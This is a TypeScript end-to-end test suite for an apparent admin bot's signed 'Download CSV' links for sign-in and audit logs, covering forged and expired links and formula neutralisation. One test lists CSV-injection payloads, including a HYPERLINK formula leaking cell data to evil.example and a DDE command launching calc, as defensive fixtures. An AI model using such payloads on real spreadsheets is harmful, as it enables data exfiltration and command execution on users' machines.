import { strict as assert } from 'node:assert';
import { randomUUID } from 'node:crypto';
import { dirname } from 'node:path';

import { ExportLinks } from '../../services/exports/export-links';
import { DEMO, channelThread, message, type Where } from '../helpers/activities';
import { parseCsv } from '../helpers/csv';
import { cardOf, graphAll, startHarness, type Harness } from '../helpers/warden';

const KARITA = 'karita@woodgrovebank.com';
const KEY = 'e2e-export-signing-key-0123456789abcdef';

interface SignIn {
  ipAddress: string | null;
  appDisplayName: string | null;
  status: { errorCode: number };
}

/** Every Action.OpenUrl in a card. */
const openUrls = (node: unknown, found: { title: string; url: string }[] = []) => {
  if (Array.isArray(node)) node.forEach((child) => openUrls(child, found));
  else if (node && typeof node === 'object') {
    const element = node as Record<string, unknown>;
    if (element.type === 'Action.OpenUrl')
      found.push({ title: String(element.title), url: String(element.url) });
    Object.values(element).forEach((child) => openUrls(child, found));
  }
  return found;
};

const downloadLink = (reply: Record<string, unknown>): string => {
  const links = openUrls(cardOf(reply)).filter((action) => action.title === 'Download CSV');
  assert.equal(links.length, 1, 'one Download CSV button');
  return links[0].url;
};

describe('@e2e Download CSV on table answers', function () {
  this.timeout(30_000);
  let harness: Harness;
  let origin: string;
  let karitaId: string;
  let thread: Where;

  before(async () => {
    harness = await startHarness({ EXPORT_SIGNING_KEY: KEY });
    origin = harness.server.graph.baseUrl;
    karitaId = ((await (await fetch(`${origin}/v1.0/users/${KARITA}`)).json()) as { id: string }).id;
    thread = channelThread(harness.serviceUrl);
  });

  after(async () => {
    await harness?.stop();
  });

  const ask = async (text: string) => (await harness.ask(message(thread, DEMO.alex, text)))[0];

  it('when sign-in logs are asked for, then the card links to a CSV holding exactly her sign-ins in that window', async () => {
    const since = new Date(Date.now() - 48 * 3_600_000).toISOString().replace(/\.\d{3}Z$/, 'Z');
    const signIns = await graphAll<SignIn>(
      origin,
      `/auditLogs/signIns?$filter=userId eq '${karitaId}' and createdDateTime ge ${since}`,
    );
    const reply = await ask(`sign-in logs for ${KARITA} for the past 48 hours in a table`);
    const url = downloadLink(reply);
    assert.ok(url.startsWith(`${harness.server.url}/exports/`), url);

    const response = await fetch(url);
    assert.equal(response.status, 200);
    assert.match(response.headers.get('content-type') ?? '', /^text\/csv; charset=utf-8/);
    assert.match(
      response.headers.get('content-disposition') ?? '',
      /attachment; filename="sign-in-logs\.csv"/,
    );
    assert.equal(response.headers.get('cache-control'), 'no-store');
    const [header, ...rows] = parseCsv(await response.text());
    assert.deepEqual(header, [
      'Time (UTC)',
      'App',
      'Status',
      'IP address',
      'Location',
      'Device',
      'CA',
      'Risk',
    ]);
    assert.ok(signIns.length > 0, 'the story gives Karita sign-ins in the last 48 hours');
    // The same rows, one for one: IP, app and success or failure of every sign-in the tenant holds for her.
    const key = (ip: string, app: string, ok: boolean) => `${ip} | ${app} | ${ok ? 'ok' : 'fail'}`;
    assert.deepEqual(
      rows.map((row) => key(row[3], row[1], row[2] === 'Success')).sort(),
      signIns
        .map((signIn) =>
          key(signIn.ipAddress ?? '—', signIn.appDisplayName ?? '—', signIn.status.errorCode === 0),
        )
        .sort(),
    );
  });

  it('when audit logs and risky sign-ins are asked for, then they offer their own CSV too, and user details (no table) do not', async () => {
    for (const [question, file] of [
      [`audit logs for ${KARITA} for the past 72 hours, table`, 'audit-logs.csv'],
      [`list the recent risky sign-ins for ${KARITA}`, 'risky-sign-ins.csv'],
    ]) {
      const response = await fetch(downloadLink(await ask(question)));
      assert.equal(response.status, 200, question);
      assert.ok(response.headers.get('content-disposition')?.includes(file), file);
      assert.ok(parseCsv(await response.text()).length > 1, `${file} has rows`);
    }
    const details = await ask(`Give me all user details for ${KARITA}`);
    assert.deepEqual(openUrls(cardOf(details)), []);
  });

  it('when the link is forged, tampered with or expired, then it is refused with 403 and a plain sentence', async () => {
    const url = new URL(downloadLink(await ask(`sign-in logs for ${KARITA} for the past 24 hours`)));
    const exp = url.searchParams.get('exp') ?? '';
    const sig = url.searchParams.get('sig') ?? '';
    const id = url.pathname.split('/').pop() ?? '';
    const flipped = `${sig.slice(0, -1)}${sig.endsWith('0') ? '1' : '0'}`;
    // Minted with the deployment's own key, but an hour ago: a genuine link past its time.
    const anHourAgo = new ExportLinks({
      publicUrl: () => harness.server.url,
      signingKey: KEY,
      ttlSeconds: 900,
      now: () => new Date(Date.now() - 3_600_000),
    });
    const cases: [string, string][] = [
      ['forged signature', `/exports/${id}?exp=${exp}&sig=${flipped}`],
      ['later expiry', `/exports/${id}?exp=${Number(exp) + 86_400}&sig=${sig}`],
      ['another id', `/exports/${randomUUID()}?exp=${exp}&sig=${sig}`],
      ['no signature', `/exports/${id}?exp=${exp}`],
      ['expired', anHourAgo.urlFor(id, anHourAgo.expiry()).slice(harness.server.url.length)],
    ];
    for (const [label, path] of cases) {
      const response = await fetch(`${harness.server.url}${path}`);
      assert.equal(response.status, 403, label);
      assert.match(response.headers.get('content-type') ?? '', /^text\/plain/, label);
      const body = await response.text();
      assert.match(body, label === 'expired' ? /expired/ : /not valid/, label);
      assert.ok(!body.includes(','), `${label}: no CSV in the body`);
    }
    assert.equal((await fetch(url)).status, 200, 'the genuine link still works');
  });

  it('when a genuinely signed link names an export nobody stored, then it is 404', async () => {
    const links = new ExportLinks({ publicUrl: () => harness.server.url, signingKey: KEY, ttlSeconds: 900 });
    const response = await fetch(links.urlFor(randomUUID(), links.expiry()));
    assert.equal(response.status, 404);
    assert.match(await response.text(), /no such export/);
  });

  it('when table cells hold spreadsheet formulas, then the downloaded CSV carries them as inert text', async () => {
    const exports = harness.server.exports;
    assert.ok(exports);
    const hostile = [
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      '+cmd|" /C calc"!A0',
      '-2+3',
      '@SUM(1,1)',
      '\t=1',
    ];
    const prepared = exports.prepare(
      { title: 'Audit logs', columns: ['Activity', 'Target'], rows: hostile.map((cell) => [cell, 'ok']) },
      { responseId: randomUUID(), tenantId: DEMO.tenantId, conversationId: thread.conversationId },
    );
    await prepared.store();
    const url = prepared.url;
    const [, ...rows] = parseCsv(await (await fetch(url)).text());
    assert.deepEqual(
      rows.map((row) => row[0]),
      hostile.map((cell) => `'${cell}`),
    );
  });

  it('when another instance shares the store and the key, then the link works there too', async () => {
    const store = harness.server.config.store;
    assert.equal(store.kind, 'sqlite');
    const other = await startHarness({ EXPORT_SIGNING_KEY: KEY, DATA_DIR: dirname(store.path) });
    try {
      const url = new URL(downloadLink(await ask(`sign-in logs for ${KARITA} for the past 24 hours`)));
      const response = await fetch(`${other.server.url}${url.pathname}${url.search}`);
      assert.equal(response.status, 200);
      assert.ok(parseCsv(await response.text()).length > 1);
    } finally {
      await other.stop();
    }
  });
});
